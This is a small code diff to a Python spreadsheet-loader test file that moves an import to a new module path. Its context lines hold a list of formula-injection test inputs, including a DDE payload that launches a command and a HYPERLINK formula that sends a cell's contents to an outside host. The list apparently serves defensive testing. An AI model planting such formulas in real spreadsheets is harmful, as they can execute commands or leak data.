@@ -12,8 +12,8 @@ from python_calamine import CalamineWorkbook
 
 from loaders.schema import INFO_SHEET, LISTS_SHEET, SHEETS, SHEETS_BY_NAME, Kind
 from loaders.vocabulary import BOOL_FALSE, BOOL_TRUE, CANONICAL
+from masterplan.exports.workbook import TEMPLATE_ROWS, write_workbook
 from masterplan.tables import Plan
-from masterplan.workbook import TEMPLATE_ROWS, write_workbook
 
 FORMULA_LIKE = (
     "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", '=HYPERLINK("http://x/?"&A1)', "\t=1+1", "\r=1+1", "#N/A",
